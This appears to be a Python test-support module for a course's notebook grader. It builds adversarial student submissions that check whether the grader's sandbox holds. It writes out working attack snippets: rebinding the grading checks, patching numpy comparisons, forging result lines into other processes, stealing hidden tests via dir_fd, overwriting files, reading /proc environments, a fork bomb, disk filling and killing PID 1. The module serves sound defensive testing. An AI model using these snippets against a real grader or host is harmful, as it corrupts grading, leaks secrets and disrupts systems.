"""Submissions written to cheat or to break the grader, and what each one fairly gets.

Each attack is the perceptron assignment (8 points) as handed out, with code of the attack put
at the top of its first answer cell. With ``wrong`` the answers stay the stubs (a fair score
is 0); with ``right`` they are the solutions (a fair score is 8, whatever else the code does).

    python -m course.grading SUBMISSIONS ...   grades them like any other submission

The tests (tests/test_grading_jail.py) grade them all in one batch beside two honest
classmates and check the score, that no file outside the output folder changed, that no
process survives, and that neither the hidden tests nor the grader's environment reach the
feedback. An instructor can run them the same way on the machine that will grade a class.

targets (absolute paths and numbers an attack aims at): 'source' (the source notebook),
'other' (a classmate's submitted notebook), 'package' (a file of the course package),
'source_dir' (the source folder), 'port' (a TCP port listening on 127.0.0.1).
"""
from __future__ import annotations

import json
from pathlib import Path

from .adversarial import _answer_cells, _answered, _prepend, _text

__all__ = ["ATTACKS", "make_attack", "write_attack"]

# name -> (answers: 'wrong' or 'right', what it tries, the code put at the top of the first answer)
ATTACKS: dict[str, tuple[str, str, str]] = {
    "rebinds_checks": ("wrong", "redefines check_close, check_shape, check_true and call as no-ops", """
import course.grading.checks as _checks
def check_close(*args, **kwargs): pass
def check_shape(*args, **kwargs): pass
def check_true(*args, **kwargs): pass
def call(label, func, *args, hint=None, **kwargs): return None
for _name in ("check_close", "check_shape", "check_true", "call"):
    setattr(_checks, _name, globals()[_name])
"""),
    "patches_numpy": ("wrong", "makes numpy.isclose, allclose and array_equal always say True", """
import numpy
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, bool)
numpy.allclose = lambda *args, **kwargs: True
numpy.array_equal = lambda *args, **kwargs: True
"""),
    "input_transformer": ("wrong", "an IPython input transformer that turns every later cell into `pass`", """
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
"""),
    "forges_report_lines": ("wrong", "writes forged JSON results into every file descriptor of every process it can see", """
import json, os
_fake = "".join(json.dumps({"event": "cell", "grade_id": g, "status": "ok", "outputs": []}) + "\\n"
                for g in ["test_predict_by_hand", "test_predict_zero_counts_as_one", "test_update_right_answer_changes_nothing",
                          "test_update_mistake_moves_the_line", "test_update_leaves_its_arguments_unchanged",
                          "test_train_by_hand", "test_train_separates_two_clouds", "test_train_never_separates_xor"])
_fake += json.dumps({"event": "done"}) + "\\n"
for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        for _fd in os.listdir(f"/proc/{_pid}/fd"):
            try:
                with open(f"/proc/{_pid}/fd/{_fd}", "w") as _handle:
                    _handle.write(_fake)
            except OSError:
                pass
    except OSError:
        pass
for _fd in range(3, 64):
    try:
        os.write(_fd, _fake.encode())
    except OSError:
        pass
"""),
    "dir_fd_reads_hidden_tests": ("wrong", "opens the source notebook relative to a descriptor of / and runs its solutions", """
import json, os
_root = os.open("/", os.O_RDONLY)
_stolen = json.loads(os.read(os.open(__SOURCE__, os.O_RDONLY, dir_fd=_root), 10**7))
for _cell in _stolen["cells"]:
    if _cell["metadata"].get("nbgrader", {}).get("solution"):
        exec("".join(_cell["source"]))
"""),
    "dir_fd_writes_files": ("wrong", "overwrites a classmate's notebook, the source and the course package through dir_fd", """
import os
_root = os.open("/", os.O_RDONLY)
for _target in (__OTHER__, __SOURCE__, __PACKAGE__, __SOURCE_DIR__ + "/planted.py"):
    try:
        _fd = os.open(_target, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=_root)
        os.write(_fd, b"overwritten by a submission")
        os.close(_fd)
    except OSError as _error:
        print("refused:", _error)
"""),
    "switches_off_guards": ("wrong", "reaches for the grader's guard through frames and the garbage collector", """
import gc, sys
for _frame_depth in range(30):
    try:
        _frame = sys._getframe(_frame_depth)
    except ValueError:
        break
    for _value in list(_frame.f_locals.values()) + list(_frame.f_globals.values()):
        if hasattr(_value, "active"):
            try:
                _value.active = True
            except Exception:
                pass
sys.audit_hooks_off = True
_leaked = [o for o in gc.get_objects() if isinstance(o, str) and "BEGIN HIDDEN TESTS" in o]
if _leaked:
    raise RuntimeError("hidden tests: " + _leaked[0])
"""),
    "leaks_hidden_tests": ("wrong", "a pre_run_cell hook and a transformer that copy every later cell into its error messages", """
_seen = []
def _keep(info):
    _seen.append(getattr(info, "raw_cell", ""))
get_ipython().events.register("pre_run_cell", _keep)
def _copy(lines):
    _seen.append("".join(lines))
    return lines
get_ipython().input_transformers_post.append(_copy)
def predict(x, weights, bias):
    raise ValueError("cells seen: " + " || ".join(_seen))
"""),
    "reads_grader_environment": ("wrong", "reads /proc/*/environ and cmdline and the environment, and returns them in its errors", """
import os
_found = [repr(dict(os.environ))]
for _pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
    for _what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as _handle:
                _found.append(_handle.read().decode("utf-8", "replace"))
        except OSError:
            pass
def predict(x, weights, bias):
    raise ValueError("environment: " + " | ".join(_found))
"""),
    "sends_cells_over_tcp": ("wrong", "a pre_run_cell hook that sends every cell to a TCP listener on 127.0.0.1", """
import socket
def _send(info):
    try:
        with socket.create_connection(("127.0.0.1", __PORT__), timeout=1) as _connection:
            _connection.sendall(getattr(info, "raw_cell", "").encode())
    except OSError:
        pass
get_ipython().events.register("pre_run_cell", _send)
_send(type("info", (), {"raw_cell": "hello from the submission"})())
"""),
    "leaves_a_process_behind": ("right", "starts `sleep 601` in a new session, with fork_exec and with a double fork", """
import os, subprocess
try:
    subprocess.Popen(["sleep", "601"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except OSError as _error:
    print("no process:", _error)
try:
    import _posixsubprocess
    _r, _w = os.pipe()
    _posixsubprocess.fork_exec(["sleep", "601"], [b"/usr/bin/sleep"], True, (), None, None,
                               -1, -1, -1, -1, -1, -1, _r, _w, True, True, 0, None, None, None, -1, None, False)
except Exception as _error:
    print("fork_exec:", _error)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        time.sleep(601)
    os._exit(0)
"""),
    "fork_bomb": ("right", "forks until it cannot", """
import os, time
_children = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(601)
            os._exit(0)
        _children += 1
except OSError as _error:
    print("forked", _children, "then:", _error)
"""),
    "fills_the_disk": ("right", "writes files until the disk is full", """
import os
try:
    for _k in range(64):
        with open(f"filler-{_k}.bin", "wb") as _handle:
            _handle.write(b"x" * 2**26)
except OSError as _error:
    print("stopped:", _error)
for _k in range(64):
    try:
        os.remove(f"filler-{_k}.bin")
    except OSError:
        pass
"""),
    "kills_its_kernel": ("wrong", "kills the jail's first process and its own", """
import os, signal
try:
    os.kill(1, signal.SIGKILL)
except OSError as _error:
    print(_error)
os.kill(os.getpid(), signal.SIGKILL)
"""),
    "hangs_when_tested": ("right", "right answers, but predict sleeps forever when the hidden test calls it with 50 rows", """
import time
_right_predict = None
"""),
    "returns_unreadable_values": ("wrong", "returns objects that are not plain data: a class of its own, a deep nest, a huge array", """
class _Sneaky:
    def __eq__(self, other): return True
    def __array__(self, *args, **kwargs):
        import numpy
        return numpy.zeros(3)
def predict(x, weights, bias):
    if len(x) == 3:
        return _Sneaky()
    deep = []
    for _ in range(200):
        deep = [deep]
    return deep
def perceptron_update(x, y, weights, bias, lr):
    import numpy
    return numpy.zeros(2**26), 0.0
"""),
    "answer_cell_in_markdown": ("right", "an honest slip: the first answer cell turned into a markdown cell", ""),
    "huge_outputs": ("right", "an honest slip: 150 MB of plot outputs stored in the notebook", ""),
}


def make_attack(name: str, source_path, release_path, targets: dict) -> bytes:
    """The bytes of the submitted notebook for attack ``name``."""
    if name not in ATTACKS:
        raise ValueError(f"unknown attack {name!r}; the attacks are {', '.join(ATTACKS)}")
    answers, _, code = ATTACKS[name]
    source = json.loads(Path(source_path).read_text(encoding="utf-8"))
    release = json.loads(Path(release_path).read_text(encoding="utf-8"))
    notebook = _answered(source, release) if answers == "right" else json.loads(json.dumps(release))
    cells = _answer_cells(notebook)
    for key in ("source", "other", "package", "source_dir"):  # paths relative to /, for dir_fd
        if key in targets:
            code = code.replace(f"__{key.upper()}__", repr(str(Path(targets[key]).resolve()).lstrip("/")))
    code = code.replace("__PORT__", str(int(targets.get("port", 9))))
    if "def predict(" in code:  # replaces the answer: after it
        cells[0]["source"] = _text(cells[0]) + "\n" + code
    elif code.strip():
        _prepend(cells[0], code)
    if name == "hangs_when_tested":
        cells[0]["source"] = _text(cells[0]) + (
            "\n\n_right_predict = predict\n"
            "def predict(x, weights, bias):\n"
            "    if len(x) == 50:\n"
            "        while True:\n"
            "            time.sleep(1)\n"
            "    return _right_predict(x, weights, bias)\n")
    elif name == "answer_cell_in_markdown":
        cells[0]["cell_type"] = "markdown"
        cells[0].pop("outputs", None)
        cells[0].pop("execution_count", None)
    elif name == "huge_outputs":
        picture = "iVBORw0KGgo" + "A" * (4 * 2**20 + 2**19)
        for cell in notebook["cells"]:
            if cell["cell_type"] == "code":
                cell["outputs"] = [{"output_type": "display_data", "metadata": {},
                                    "data": {"image/png": picture, "text/plain": "<Figure>"}}
                                   for _ in range(3)]
    return json.dumps(notebook).encode("utf-8")


def write_attack(name: str, folder, source_path, release_path, targets: dict) -> Path:
    """Write attack ``name`` as ``folder/<notebook name>`` (creating folder); returns that path."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / Path(source_path).name
    path.write_bytes(make_attack(name, source_path, release_path, targets))
    return path
